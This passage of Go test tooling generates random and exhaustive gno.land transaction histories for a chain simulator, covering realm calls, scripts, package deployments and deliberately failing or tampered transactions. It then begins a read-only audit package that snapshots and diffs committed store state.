	case 3:
		return MsgSpec{Kind: "call", Pkg: CfgPath, Func: "SetB", Args: []string{k, "0"}} // delete
	default:
		return MsgSpec{Kind: "call", Pkg: CfgPath, Func: "SetL", Args: []string{k, itoa(r.IntN(8))}}
	}
}

// moveScript is one MsgRun with 2-6 crossing calls that only move, drop or
// create persisted objects (each call is its own realm finalization inside
// one message, so marks set in one finalization are seen by the next).
func moveScript(r *rand.Rand) MsgSpec {
	var b strings.Builder
	b.WriteString("package main\n\nimport (\n\t\"gno.land/r/verif/store\"\n\t\"gno.land/r/verif/peer\"\n)\n\nfunc main(cur realm) {\n")
	n := 2 + r.IntN(5)
	for i := 0; i < n; i++ {
		switch r.IntN(16) {
		case 0, 1:
			fmt.Fprintf(&b, "\tprintln(store.SlotPut(cross(cur), %d, %q))\n", r.IntN(3), pick(r, tags))
		case 2, 3, 4:
			fmt.Fprintf(&b, "\tprintln(store.SlotSwap(cross(cur), %d, %d))\n", r.IntN(3), r.IntN(3))
		case 5, 6:
			fmt.Fprintf(&b, "\tprintln(store.SlotRehome(cross(cur), %d, %d))\n", r.IntN(3), r.IntN(3))
		case 7, 8:
			fmt.Fprintf(&b, "\tprintln(store.SlotDrop(cross(cur), %d))\n", r.IntN(3))
		case 9:
			fmt.Fprintf(&b, "\tprintln(store.SlotAdopt(cross(cur), %d))\n", r.IntN(3))
		case 10:
			b.WriteString("\tprintln(store.Detach(cross(cur)))\n")
		case 11:
			b.WriteString("\tprintln(store.Reattach(cross(cur)))\n")
		case 12:
			b.WriteString("\tprintln(store.DropDetached(cross(cur)))\n")
		case 13:
			fmt.Fprintf(&b, "\tprintln(store.Push(cross(cur), %q))\n", pick(r, tags))
		case 14:
			fmt.Fprintf(&b, "\tprintln(peer.Hold(cross(cur), %q))\n", pick(r, tags))
		case 15:
			b.WriteString("\tprintln(peer.Release(cross(cur)))\n")
		}
	}
	b.WriteString("\tprintln(len(store.Dump()), peer.Dump())\n}\n")
	return MsgSpec{Kind: "run", Body: b.String()}
}

func runScript(r *rand.Rand) MsgSpec {
	var b strings.Builder
	b.WriteString("package main\n\nimport (\n\t\"gno.land/r/verif/store\"\n\t\"gno.land/r/verif/peer\"\n)\n\nfunc main(cur realm) {\n")
	n := 1 + r.IntN(5)
	slotScript := r.IntN(3) == 0 // several slot moves in one message: one realm finalization per call
	for i := 0; i < n; i++ {
		if slotScript {
			switch r.IntN(5) {
			case 0:
				fmt.Fprintf(&b, "\tprintln(store.SlotPut(cross(cur), %d, %q))\n", r.IntN(3), pick(r, tags))
			case 1:
				fmt.Fprintf(&b, "\tprintln(store.SlotSwap(cross(cur), %d, %d))\n", r.IntN(3), r.IntN(3))
			case 2:
				fmt.Fprintf(&b, "\tprintln(store.SlotRehome(cross(cur), %d, %d))\n", r.IntN(3), r.IntN(3))
			case 3:
				fmt.Fprintf(&b, "\tprintln(store.SlotDrop(cross(cur), %d))\n", r.IntN(3))
			case 4:
				fmt.Fprintf(&b, "\tprintln(peer.Hold(cross(cur), %q), peer.Release(cross(cur)))\n", pick(r, tags))
			}
			continue
		}
		switch r.IntN(6) {
		case 0:
			fmt.Fprintf(&b, "\tprintln(store.Push(cross(cur), %q))\n", pick(r, tags))
		case 1:
			fmt.Fprintf(&b, "\tprintln(store.SetArr(cross(cur), %d, %d))\n", r.IntN(6), r.IntN(100))
		case 2:
			fmt.Fprintf(&b, "\tprintln(peer.Relay(cross(cur), %q))\n", pick(r, tags))
		case 3:
			fmt.Fprintf(&b, "\tprintln(store.Window(cross(cur), %d, %d))\n", r.IntN(8), r.IntN(50))
		case 4:
			fmt.Fprintf(&b, "\tprintln(store.BigGrow(cross(cur), %d))\n", r.IntN(10))
		case 5:
			fmt.Fprintf(&b, "\tprintln(peer.BoxAdd(cross(cur), %d))\n", r.IntN(9))
		}
	}
	b.WriteString("\tprintln(len(store.Dump()), peer.Dump())\n}\n")
	return MsgSpec{Kind: "run", Body: b.String()}
}

func smallRealm(idx int, r *rand.Rand) (string, string) {
	path := fmt.Sprintf("gno.land/r/verif/gen%d", idx)
	body := fmt.Sprintf(`package gen%d

import "gno.land/r/verif/store"

var V = []int{%d, %d}
var S = map[string]int{"x": %d}

func init() { V = append(V, len(store.Dump())%%7) }

func Add(cur realm, n int) int { V = append(V, n); S["n"] += n; return len(V) }
func Clear(cur realm) int { V = nil; S = map[string]int{}; return 0 }
`, idx, r.IntN(9), r.IntN(9), r.IntN(9))
	return path, body
}

// Profile tunes the generator.
type Profile struct {
	// FailBoost multiplies the share of failing transactions (panics, message
	// errors, out-of-gas cut points, deposit failures, bad signatures).
	FailBoost bool
	// MoveBoost makes 40% of the transactions one message with several
	// crossing calls (one realm finalization each) that move persisted objects
	// between holders, drop and re-create them.
	MoveBoost bool
	// FanBoost deploys four clone realms in the first block and makes 30% of
	// the transactions fan-out messages that change several of them equally.
	FanBoost bool
	// OddBoost: a quarter of the transactions deploy packages made only of test-like files or use them.
	OddBoost bool
}

// Gen produces a random history of nBlocks blocks.
func Gen(r *rand.Rand, seed uint64, nBlocks, maxTxs int) *History {
	return GenP(r, seed, nBlocks, maxTxs, Profile{})
}

// failTx returns a transaction designed to fail at a chosen point.
func failTx(r *rand.Rand) TxSpec {
	tx := TxSpec{Signer: pick(r, Users), Gas: 150_000_000, Fee: 1_000_000}
	pre := func() []MsgSpec {
		var ms []MsgSpec
		for j := r.IntN(3); j > 0; j-- {
			if r.IntN(2) == 0 {
				ms = append(ms, storeOp(r))
			} else {
				ms = append(ms, peerOp(r))
			}
		}
		return ms
	}
	switch r.IntN(8) {
	case 0: // Gno panic in own realm after writes, at message j
		tx.Msgs = append(pre(), MsgSpec{Kind: "call", Pkg: StorePath, Func: "Fail", Args: []string{pick(r, tags)}})
		tx.Label = "fail:panic-own"
	case 1: // Gno panic in a foreign realm reached by a cross call, after writes in both
		tx.Msgs = append(pre(), MsgSpec{Kind: "call", Pkg: PeerPath, Func: "RelayFail", Args: []string{pick(r, tags)}})
		tx.Label = "fail:panic-foreign"
	case 2: // message error (bank) after successful VM messages
		tx.Msgs = append(pre(), MsgSpec{Kind: "send", To: pick(r, Users), Amount: 99_000_000_000_000})
		tx.Label = "fail:msg-error"
	case 3: // out of tx gas at a cut point inside message execution
		tx.Msgs = append(pre(), MsgSpec{Kind: "call", Pkg: StorePath, Func: "BigGrow", Args: []string{itoa(20 + r.IntN(30))}},
			MsgSpec{Kind: "call", Pkg: StorePath, Func: "Burn", Args: []string{itoa(500 + r.IntN(20000))}})
		tx.Gas = int64(1_200_000 + r.IntN(12_000_000))
		tx.Label = "fail:oog-cut"
	case 4: // storage deposit limit too small for the growth
		tx.Msgs = append(pre(), MsgSpec{Kind: "call", Pkg: StorePath, Func: "BigGrow", Args: []string{itoa(25 + r.IntN(20))}, MaxDep: int64(1 + r.IntN(2000))})
		tx.Label = "fail:deposit"
	case 5: // MsgRun script that writes then panics
		tx.Msgs = []MsgSpec{{Kind: "run", Body: "package main\n\nimport (\n\t\"gno.land/r/verif/store\"\n\t\"gno.land/r/verif/peer\"\n)\n\nfunc main(cur realm) {\n\tstore.Push(cross(cur), \"run\")\n\tpeer.Relay(cross(cur), \"run\")\n\tstore.BigGrow(cross(cur), 7)\n\tpanic(\"script failure\")\n}\n"}}
		tx.Label = "fail:run-panic"
	case 6: // add-package whose init panics after touching another realm
		idx := 1000 + r.IntN(1_000_000)
		tx.Msgs = []MsgSpec{{Kind: "addpkg", Pkg: fmt.Sprintf("gno.land/r/verif/bad%d", idx), Body: fmt.Sprintf("package bad%d\n\nimport \"gno.land/r/verif/store\"\n\nvar X = []int{1, 2, 3}\n\nfunc init() {\n\tX = append(X, len(store.Dump()))\n\tpanic(\"init failure\")\n}\n", idx)}}
		tx.Label = "fail:addpkg-init-panic"
	default: // unknown function (message error from the keeper) after writes
		tx.Msgs = append(pre(), MsgSpec{Kind: "call", Pkg: StorePath, Func: "NoSuchFunc"})
		tx.Label = "fail:no-func"
	}
	return tx
}

// GenP produces a random history of nBlocks blocks under a profile.
func GenP(r *rand.Rand, seed uint64, nBlocks, maxTxs int, prof Profile) *History {
	h := &History{Seed: seed}
	deployed := []int{}
	oddPkgs := []string{}
	oddBlock := map[string]int{}
	nextPkg := 0
	for b := 0; b < nBlocks; b++ {
		var blk []TxSpec
		ntx := r.IntN(maxTxs + 1)
		if prof.FanBoost && b == 0 {
			for k := 0; k < 4; k++ {
				p, body := smallRealm(nextPkg, r)
				deployed = append(deployed, nextPkg)
				nextPkg++
				blk = append(blk, TxSpec{Signer: Users[k%len(Users)], Gas: 200_000_000, Fee: 1_000_000, Label: "addpkg", Msgs: []MsgSpec{{Kind: "addpkg", Pkg: p, Body: body}}})
			}
		}
		for i := 0; i < ntx; i++ {
			if prof.FailBoost && r.IntN(100) < 8 {
				// a failed multi-message tx deploys a library and type-checks a dependent of it; later txs
				// of the SAME block deploy another library at that path and a dependent of the new one
				k := 500000 + nextPkg*7 + r.IntN(7)
				nextPkg++
				lib := fmt.Sprintf("gno.land/p/verif/lib%d", k)
				libSrc := func(fn string) string { return fmt.Sprintf("package lib%d\n\nfunc %s() int { return %d }\n", k, fn, r.IntN(100)) }
				user := func(name, fn string, fail bool) MsgSpec {
					body := fmt.Sprintf("package %s\n\nimport \"%s\"\n\nvar X = lib%d.%s()\n", name, lib, k, fn)
					if fail {
						body += "\nfunc init() { panic(\"dependent fails\") }\n"
					}
					return MsgSpec{Kind: "addpkg", Pkg: "gno.land/r/verif/" + name, Body: body}
				}
				signer := pick(r, Users)
				blk = append(blk,
					TxSpec{Signer: signer, Gas: 400_000_000, Fee: 1_000_000, Label: "fail:lib-then-failing-dependent", Msgs: []MsgSpec{{Kind: "addpkg", Pkg: lib, Body: libSrc("A")}, user(fmt.Sprintf("usera%d", k), "A", true)}},
					TxSpec{Signer: pick(r, Users), Gas: 200_000_000, Fee: 1_000_000, Label: "lib-redeployed-after-failed-tx", Msgs: []MsgSpec{{Kind: "addpkg", Pkg: lib, Body: libSrc("B")}}},
					TxSpec{Signer: pick(r, Users), Gas: 200_000_000, Fee: 1_000_000, Label: "dependent-of-redeployed-lib", Msgs: []MsgSpec{user(fmt.Sprintf("userb%d", k), "B", false)}})
				continue
			}
			if prof.FailBoost && r.IntN(100) < 45 {
				blk = append(blk, failTx(r))
				continue
			}
			if prof.MoveBoost && r.IntN(100) < 40 {
				blk = append(blk, TxSpec{Signer: pick(r, Users), Gas: 150_000_000, Fee: 1_000_000, Msgs: []MsgSpec{moveScript(r)}, Label: "move-script"})
				continue
			}
			oddP := 5
			if prof.OddBoost {
				oddP = 25
			}
			if r.IntN(100) < oddP {
				// packages made only of test-like files (must be refused the same way on every node), and
				// later uses of whatever was accepted
				var earlier []string // deployed in an earlier block (a restart may lie in between)
				for _, op := range oddPkgs {
					if oddBlock[op] < b {
						earlier = append(earlier, op)
					}
				}
				if len(earlier) > 0 && r.IntN(3) != 0 {
					p := pick(r, earlier)
					name := p[strings.LastIndex(p, "/")+1:]
					if r.IntN(2) == 0 {
						blk = append(blk, TxSpec{Signer: pick(r, Users), Gas: 60_000_000, Fee: 1_000_000, Label: "odd-pkg-call", Msgs: []MsgSpec{{Kind: "call", Pkg: p, Func: "Foo"}}})
					} else {
						blk = append(blk, TxSpec{Signer: pick(r, Users), Gas: 100_000_000, Fee: 1_000_000, Label: "odd-pkg-import", Msgs: []MsgSpec{{Kind: "run", Body: "package main\n\nimport \"" + p + "\"\n\nfunc main(cur realm) {\n\tprintln(" + name + ".Foo(cross(cur)))\n}\n"}}})
					}
				} else {
					k := 700000 + nextPkg
					nextPkg++
					p := fmt.Sprintf("gno.land/r/verif/odd%d", k)
					file := []string{"a_filetest.gno", "a_test.gno", "z_filetest.gno", "a_filetest.gno"}[r.IntN(4)]
					if file != "a_test.gno" {
						oddPkgs = append(oddPkgs, p)
						oddBlock[p] = b
					}
					blk = append(blk, TxSpec{Signer: pick(r, Users), Gas: 200_000_000, Fee: 1_000_000, Label: "addpkg-only-" + file, Msgs: []MsgSpec{{Kind: "addpkg", Pkg: p, File: file, Body: fmt.Sprintf("package odd%d\n\nfunc Foo(cur realm) int { return %d }\n", k, r.IntN(9))}}})
				}
				continue
			}
			fanP := 7
			if prof.FanBoost {
				fanP = 30
			}
			if len(deployed) >= 2 && r.IntN(100) < fanP {
				// fan-out: one message changes several clone realms by exactly the same number of
				// bytes (first a message that brings them to the same shape, then equal growth)
				n := 2 + r.IntN(3)
				if n > len(deployed) {
					n = len(deployed)
				}
				perm := r.Perm(len(deployed))[:n]
				mk := func(call string) MsgSpec {
					var b strings.Builder
					b.WriteString("package main\n\nimport (\n")
					for _, pi := range perm {
						fmt.Fprintf(&b, "\t\"gno.land/r/verif/gen%d\"\n", deployed[pi])
					}
					b.WriteString(")\n\nfunc main(cur realm) {\n")
					for _, pi := range perm {
						fmt.Fprintf(&b, "\tprintln(gen%d.%s)\n", deployed[pi], call)
					}
					b.WriteString("}\n")
					return MsgSpec{Kind: "run", Body: b.String()}
				}
				signer := pick(r, Users)
				v := r.IntN(50)
				blk = append(blk,
					TxSpec{Signer: signer, Gas: 150_000_000, Fee: 1_000_000, Label: "fanout-clear", Msgs: []MsgSpec{mk("Clear(cross(cur))")}},
					TxSpec{Signer: signer, Gas: 150_000_000, Fee: 1_000_000, Label: "fanout-add", Msgs: []MsgSpec{mk(fmt.Sprintf("Add(cross(cur), %d)", v))}})
				continue
			}
			tx := TxSpec{Signer: pick(r, Users), Gas: 60_000_000, Fee: 1_000_000}
			switch k := r.IntN(100); {
			case k < 38:
				tx.Msgs = []MsgSpec{storeOp(r)}
				tx.Label = "store"
			case k < 46:
				tx.Msgs = []MsgSpec{peerOp(r)}
				tx.Label = "peer"
			case k < 50:
				tx.Msgs = []MsgSpec{cfgOp(r)}
				tx.Label = "cfg"
			case k < 60:
				tx.Msgs = []MsgSpec{runScript(r)}
				tx.Label = "run"
			case k < 68:
				to := pick(r, append([]string{"erin", "frank"}, Users...))
				amt := int64(1 + r.IntN(1_000_000))
				if r.IntN(6) == 0 {
					amt = 99_000_000_000_000 // insufficient
				}
				tx.Msgs = []MsgSpec{{Kind: "send", To: to, Amount: amt}}
				tx.Label = "send"
				switch r.IntN(4) {
				case 0: // realm-issued denomination (may be insufficient: then the message fails)
					tx.Msgs[0].Denom = PeerDenom
					tx.Msgs[0].Amount = int64(1 + r.IntN(400))
					tx.Label = "send-realm-denom"
				case 1: // two sends in one tx (bank.MsgMultiSend is not amino-registered, so it cannot travel in a tx)
					tx.Msgs = append(tx.Msgs, MsgSpec{Kind: "send", To: pick(r, Users), Amount: int64(1 + r.IntN(1_000_000))})
					tx.Label = "send-x2"
				}
			case k < 74:
				// failing call after writes
				if r.IntN(2) == 0 {
					tx.Msgs = []MsgSpec{{Kind: "call", Pkg: StorePath, Func: "Fail", Args: []string{pick(r, tags)}}}
				} else {
					tx.Msgs = []MsgSpec{{Kind: "call", Pkg: PeerPath, Func: "RelayFail", Args: []string{pick(r, tags)}}}
				}
				tx.Label = "fail"
			case k < 79:
				// out of gas in the middle of a storage-heavy call
				tx.Msgs = []MsgSpec{{Kind: "call", Pkg: StorePath, Func: "Burn", Args: []string{itoa(2000 + r.IntN(30000))}}}
				tx.Gas = int64(2_500_000 + r.IntN(3_000_000))
				tx.Label = "oog"
			case k < 86:
				// multi-message tx, sometimes with a failing last message
				n := 2 + r.IntN(3)
				for j := 0; j < n; j++ {
					if r.IntN(2) == 0 {
						tx.Msgs = append(tx.Msgs, storeOp(r))
					} else {
						tx.Msgs = append(tx.Msgs, peerOp(r))
					}
				}
				if r.IntN(3) == 0 {
					tx.Msgs = append(tx.Msgs, MsgSpec{Kind: "call", Pkg: StorePath, Func: "Fail", Args: []string{"m"}})
				}
				tx.Gas = 150_000_000
				tx.Label = "multi"
			case k < 93:
				idx := nextPkg
				if len(deployed) > 0 && r.IntN(4) == 0 {
					idx = pick(r, deployed) // collision: must be rejected
				} else {
					nextPkg++
					deployed = append(deployed, idx)
				}
				p, body := smallRealm(idx, r)
				tx.Msgs = []MsgSpec{{Kind: "addpkg", Pkg: p, Body: body}}
				tx.Gas = 200_000_000
				tx.Label = "addpkg"
			default:
				if len(deployed) == 0 {
					tx.Msgs = []MsgSpec{storeOp(r)}
					tx.Label = "store"
				} else {
					p, _ := smallRealm(pick(r, deployed), r)
					if r.IntN(3) == 0 {
						tx.Msgs = []MsgSpec{{Kind: "call", Pkg: p, Func: "Clear"}}
					} else {
						tx.Msgs = []MsgSpec{{Kind: "call", Pkg: p, Func: "Add", Args: []string{itoa(r.IntN(50))}}}
					}
					tx.Label = "gen"
				}
			}
			blk = append(blk, tx)
		}
		h.Blocks = append(h.Blocks, blk)
	}
	return h
}

// Resolve turns a MsgSpec into a real message for signer.
func Resolve(c *chainsim.Chain, signer *chainsim.Account, m MsgSpec) std.Msg {
	args := make([]string, len(m.Args))
	for i, a := range m.Args {
		if strings.HasPrefix(a, "@") {
			a = c.Acc(a[1:]).Addr.String()
		}
		args[i] = a
	}
	var send std.Coins
	if m.Send > 0 {
		send = std.Coins{{Denom: "ugnot", Amount: m.Send}}
	}
	var maxDep std.Coins
	if m.MaxDep > 0 {
		maxDep = std.Coins{{Denom: "ugnot", Amount: m.MaxDep}}
	}
	switch m.Kind {
	case "call":
		msg := vm.NewMsgCall(signer.Addr, send, m.Pkg, m.Func, args)
		msg.MaxDeposit = maxDep
		return msg
	case "run":
		msg := vm.NewMsgRun(signer.Addr, send, []*std.MemFile{{Name: "main.gno", Body: m.Body}})
		msg.MaxDeposit = maxDep
		return msg
	case "addpkg":
		name := m.Pkg[strings.LastIndex(m.Pkg, "/")+1:]
		fname := name + ".gno"
		if m.File != "" {
			fname = m.File
		}
		msg := vm.NewMsgAddPackage(signer.Addr, m.Pkg, chainsim.Files(m.Pkg, map[string]string{fname: m.Body}))
		msg.MaxDeposit = maxDep
		msg.Send = send
		return msg
	case "multisend":
		denom := "ugnot"
		if m.Denom != "" {
			denom = m.Denom
		}
		a1 := m.Amount / 2
		a2 := m.Amount - a1
		in := []bank.Input{{Address: signer.Addr, Coins: std.Coins{{Denom: denom, Amount: m.Amount}}}}
		var out []bank.Output
		if a1 > 0 {
			out = append(out, bank.Output{Address: c.Acc(m.To).Addr, Coins: std.Coins{{Denom: denom, Amount: a1}}})
		}
		out = append(out, bank.Output{Address: c.Acc(m.To2).Addr, Coins: std.Coins{{Denom: denom, Amount: a2}}})
		return bank.NewMsgMultiSend(in, out)
	case "send":
		var to crypto.Address
		if strings.HasPrefix(m.To, "realm:") {
			to = RealmAddr(m.To[6:])
		} else {
			to = c.Acc(m.To).Addr
		}
		denom := "ugnot"
		if m.Denom != "" {
			denom = m.Denom
		}
		return bank.MsgSend{FromAddress: signer.Addr, ToAddress: to, Amount: std.Coins{{Denom: denom, Amount: m.Amount}}}
	}
	panic("unknown msg kind " + m.Kind)
}

// PlayTx signs and delivers one TxSpec inside the current block.
func PlayTx(c *chainsim.Chain, t TxSpec) *chainsim.TxResult {
	signer := c.Acc(t.Signer)
	msgs := make([]std.Msg, len(t.Msgs))
	for i, m := range t.Msgs {
		msgs[i] = Resolve(c, signer, m)
	}
	fee := chainsim.Fee(t.Gas, t.Fee)
	if t.Tamper == "" {
		return c.DeliverSigned(msgs, fee, signer)
	}
	saved := *signer
	chain := chainsim.ChainID
	switch t.Tamper {
	case "seq+1":
		signer.Seq++
	case "seq-1":
		if signer.Seq > 0 {
			signer.Seq--
		} else {
			signer.Seq += 2
		}
	case "wrongacc":
		signer.AccNum += 7
	case "wrongchain":
		chain = "other-chain"
	case "tinygas":
		fee = chainsim.Fee(500, t.Fee)
	}
	tx := c.SignTxChain(chain, msgs, fee, signer)
	*signer = saved
	switch t.Tamper {
	case "badsig":
		sig := append([]byte(nil), tx.Signatures[0].Signature...)
		sig[len(sig)/2] ^= 0x20
		tx.Signatures[0].Signature = sig
	case "nosig":
		tx.Signatures = nil
	}
	return c.Deliver(chainsim.TxBytes(tx))
}

// StoreOp returns a random mutating call on the store realm (exported for checks that build their own sequences).
func StoreOp(r *rand.Rand) MsgSpec { return storeOp(r) }

// PeerOp returns a random call on the peer realm.
func PeerOp(r *rand.Rand) MsgSpec { return peerOp(r) }

// slotAlphabet is the set of crossing calls that move objects between two slots.
var slotAlphabet = []string{
	"SlotSwap(cross(cur), 0, 1)", "SlotSwap(cross(cur), 1, 0)",
	"SlotRehome(cross(cur), 0, 1)", "SlotRehome(cross(cur), 1, 0)", "SlotRehome(cross(cur), 0, 0)",
	"SlotDrop(cross(cur), 0)", "SlotDrop(cross(cur), 1)",
	"SlotPut(cross(cur), 0, \"n\")", "SlotPut(cross(cur), 1, \"n\")",
}

// SlotSeqHistories enumerates every sequence of exactly seqLen slot moves
// executed as ONE message (each call finalizes the realm once) from each of
// the four nil/non-nil start states of two slots, spread over parts
// histories. Every history alternates a SlotReset block (which persists the
// start state) and the message under test, one tx per block.
func SlotSeqHistories(seqLen, parts int) []*History {
	hs := make([]*History, parts)
	for i := range hs {
		hs[i] = &History{Seed: uint64(900000 + seqLen*100 + i)}
	}
	total := 1
	for i := 0; i < seqLen; i++ {
		total *= len(slotAlphabet)
	}
	k := 0
	for mask := 0; mask < 4; mask++ {
		for n := 0; n < total; n++ {
			var b strings.Builder
			b.WriteString("package main\n\nimport \"gno.land/r/verif/store\"\n\nfunc main(cur realm) {\n")
			x := n
			label := fmt.Sprintf("slot-seq:mask%d", mask)
			for j := 0; j < seqLen; j++ {
				op := slotAlphabet[x%len(slotAlphabet)]
				x /= len(slotAlphabet)
				fmt.Fprintf(&b, "\tprintln(store.%s)\n", op)
				label += ":" + strings.Split(op, "(")[0] + strings.NewReplacer("cross(cur), ", "", "\"", "").Replace(op[strings.Index(op, "("):])
			}
			b.WriteString("}\n")
			h := hs[k%parts]
			k++
			h.Blocks = append(h.Blocks,
				[]TxSpec{{Signer: "alice", Gas: 60_000_000, Fee: 1_000_000, Label: "slot-reset", Msgs: []MsgSpec{{Kind: "call", Pkg: StorePath, Func: "SlotReset", Args: []string{itoa(mask)}}}}},
				[]TxSpec{{Signer: "alice", Gas: 150_000_000, Fee: 1_000_000, Label: label, Msgs: []MsgSpec{{Kind: "run", Body: b.String()}}}},
			)
		}
	}
	return hs
}

// SlotAdoptHistories: from three filled slots (persisted by a SlotReset block), every message of one
// or two calls over adoption, swap, drop and re-creation.
func SlotAdoptHistories(parts int) []*History {
	alpha := []string{"SlotAdopt(cross(cur), 0)", "SlotAdopt(cross(cur), 1)", "SlotAdopt(cross(cur), 2)", "SlotSwap(cross(cur), 0, 1)", "SlotDrop(cross(cur), 2)", "SlotPut(cross(cur), 1, \"n\")"}
	hs := make([]*History, parts)
	for i := range hs {
		hs[i] = &History{Seed: uint64(950000 + i)}
	}
	var seqs [][]string
	for _, a := range alpha {
		seqs = append(seqs, []string{a})
		for _, b := range alpha {
			seqs = append(seqs, []string{a, b})
		}
	}
	for k, sq := range seqs {
		var b strings.Builder
		b.WriteString("package main\n\nimport \"gno.land/r/verif/store\"\n\nfunc main(cur realm) {\n")
		label := "slot-adopt-seq"
		for _, op := range sq {
			fmt.Fprintf(&b, "\tprintln(store.%s)\n", op)
			label += ":" + strings.Split(op, "(")[0] + strings.NewReplacer("cross(cur), ", "", "\"", "").Replace(op[strings.Index(op, "("):])
		}
		b.WriteString("}\n")
		h := hs[k%parts]
		h.Blocks = append(h.Blocks,
			[]TxSpec{{Signer: "alice", Gas: 60_000_000, Fee: 1_000_000, Label: "slot-reset", Msgs: []MsgSpec{{Kind: "call", Pkg: StorePath, Func: "SlotReset", Args: []string{"7"}}}}},
			[]TxSpec{{Signer: "alice", Gas: 150_000_000, Fee: 1_000_000, Label: label, Msgs: []MsgSpec{{Kind: "run", Body: b.String()}}}},
		)
	}
	return hs
}
