// Package audit is an independent, read-only view over the committed state of
// a gno.land application database: a second multistore (same mounts as
// gnoland.NewAppWithOptions) opened with Immutable options over an
// ImmutableDB wrapper of the same dbm.DB, with its own keepers.
package audit

import (
	"bytes"
	"fmt"
	"sort"
	"strings"

	"github.com/gnolang/gno/gno.land/pkg/gnoland"
	"github.com/gnolang/gno/gno.land/pkg/gnoland/ugnot"
	dbm "github.com/gnolang/gno/tm2/pkg/db"
	"github.com/gnolang/gno/tm2/pkg/log"
	"github.com/gnolang/gno/tm2/pkg/sdk"
	"github.com/gnolang/gno/tm2/pkg/sdk/auth"
	"github.com/gnolang/gno/tm2/pkg/sdk/bank"
	"github.com/gnolang/gno/tm2/pkg/sdk/params"
	"github.com/gnolang/gno/tm2/pkg/std"
	"github.com/gnolang/gno/tm2/pkg/store"
	storebptree "github.com/gnolang/gno/tm2/pkg/store/bptree"
	"github.com/gnolang/gno/tm2/pkg/store/dbadapter"
	storetypes "github.com/gnolang/gno/tm2/pkg/store/types"

	bft "github.com/gnolang/gno/tm2/pkg/bft/types"
)

// View is the committed state at one height.
type View struct {
	Height  int64
	Hash    []byte
	ms      storetypes.CommitMultiStore
	mainKey storetypes.StoreKey
	baseKey storetypes.StoreKey
	Ctx     sdk.Context
	Acck    auth.AccountKeeper
	Bankk   bank.BankKeeper
	Prmk    params.ParamsKeeper
}

// Open loads the committed version `height` (0 = latest) read-only.
func Open(db dbm.DB, height int64) (*View, error) {
	idb := dbm.NewImmutableDB(db)
	ms := store.NewCommitMultiStore(idb)
	mainKey := store.NewStoreKey("main")
	baseKey := store.NewStoreKey("base")
	ms.MountStoreWithDB(mainKey, storebptree.FastStoreConstructor, idb)
	ms.MountStoreWithDB(baseKey, dbadapter.StoreConstructor, idb)
	opts := ms.GetStoreOptions()
	opts.Immutable = true
	ms.SetStoreOptions(opts)
	var err error
	if height == 0 {
		err = ms.LoadLatestVersion()
	} else {
		err = ms.LoadVersion(height)
	}
	if err != nil {
		return nil, err
	}
	v := &View{ms: ms, mainKey: mainKey, baseKey: baseKey}
	cid := ms.LastCommitID()
	v.Height, v.Hash = cid.Version, cid.Hash
	v.Prmk = params.NewParamsKeeper(mainKey)
	v.Acck = auth.NewAccountKeeper(mainKey, v.Prmk.ForModule(auth.ModuleName), gnoland.ProtoGnoAccount, gnoland.ProtoGnoSessionAccount)
	v.Bankk = bank.NewBankKeeper(v.Acck, v.Prmk.ForModule(bank.ModuleName), mainKey, []string{ugnot.Denom})
	v.Ctx = sdk.NewContext(sdk.RunTxModeDeliver, ms.MultiCacheWrap(), &bft.Header{ChainID: "dev", Height: v.Height}, log.NewNoopLogger())
	return v, nil
}

// Main returns the main (Merkle) store.
func (v *View) Main() storetypes.Store { return v.ms.GetStore(v.mainKey) }

// Base returns the base (flat) store.
func (v *View) Base() storetypes.Store { return v.ms.GetStore(v.baseKey) }

// KV is a sorted key/value listing.
type KV struct {
	Keys []string
	M    map[string][]byte
}

func collect(st storetypes.Store, start, end []byte, keep func(k []byte) bool) *KV {
	kv := &KV{M: map[string][]byte{}}
	it := st.Iterator(nil, start, end)
	defer it.Close()
	for ; it.Valid(); it.Next() {
		k := it.Key()
		if keep != nil && !keep(k) {
			continue
		}
		kv.Keys = append(kv.Keys, string(k))
		kv.M[string(k)] = append([]byte(nil), it.Value()...)
	}
	sort.Strings(kv.Keys)
	return kv
}

// MainKV returns every key/value of the main store.
func (v *View) MainKV() *KV { return collect(v.Main(), nil, nil, nil) }

// GnoPrefixes are the base-store key classes that belong to the GnoVM (the
// base store shares the physical DB with the tree's internal node records).
var GnoPrefixes = []string{"oid:", "tid:", "pkgidx:", "node:"}

// BaseKV returns the GnoVM keys of the base store (oid:, tid:, pkgidx:, node:).
func (v *View) BaseKV() *KV {
	out := &KV{M: map[string][]byte{}}
	for _, p := range GnoPrefixes {
		kv := collect(v.Base(), []byte(p), prefixEnd([]byte(p)), nil)
		for _, k := range kv.Keys {
			out.Keys = append(out.Keys, k)
			out.M[k] = kv.M[k]
		}
	}
	sort.Strings(out.Keys)
	return out
}

// BasePrefix returns base-store keys under one prefix.
func (v *View) BasePrefix(p string) *KV {
	return collect(v.Base(), []byte(p), prefixEnd([]byte(p)), nil)
}

func prefixEnd(p []byte) []byte {
	e := append([]byte(nil), p...)
	for i := len(e) - 1; i >= 0; i-- {
		if e[i] != 0xff {
			e[i]++
			return e[:i+1]
		}
	}
	return nil
}

// Diff describes the difference between two KV listings.
type Diff struct {
	Added, Removed, Changed []string
}

func (d Diff) Empty() bool { return len(d.Added)+len(d.Removed)+len(d.Changed) == 0 }
func (d Diff) All() []string {
	out := append(append(append([]string{}, d.Added...), d.Removed...), d.Changed...)
	sort.Strings(out)
	return out
}

// DiffKV computes b − a.
func DiffKV(a, b *KV) Diff {
	var d Diff
	for _, k := range b.Keys {
		av, ok := a.M[k]
		if !ok {
			d.Added = append(d.Added, k)
		} else if !bytes.Equal(av, b.M[k]) {
			d.Changed = append(d.Changed, k)
		}
	}
	for _, k := range a.Keys {
		if _, ok := b.M[k]; !ok {
			d.Removed = append(d.Removed, k)
		}
	}
	return d
}

// State is the full committed user-visible state (main store + gno base keys).
type State struct {
	Height int64
	Hash   []byte
	Main   *KV
	Base   *KV
}

// Snapshot reads the full state at height (0 = latest).
func Snapshot(db dbm.DB, height int64) (*State, *View, error) {
	v, err := Open(db, height)
	if err != nil {
		return nil, nil, err
	}
	return &State{Height: v.Height, Hash: v.Hash, Main: v.MainKV(), Base: v.BaseKV()}, v, nil
}

// KeyClass classifies a main-store key for diff whitelists.
func KeyClass(k string) string {
	switch {
	case strings.HasPrefix(k, auth.AddressStoreKeyPrefix):
		if len(k) > auth.AccountStoreKeyLen {
			return "session"
		}
		return "account"
	case strings.HasPrefix(k, bank.BalancePrefix):
		return "balance"
	case strings.HasPrefix(k, bank.SupplyPrefix):
		return "supply"
	case strings.HasPrefix(k, params.StoreKeyPrefix):
		return "param"
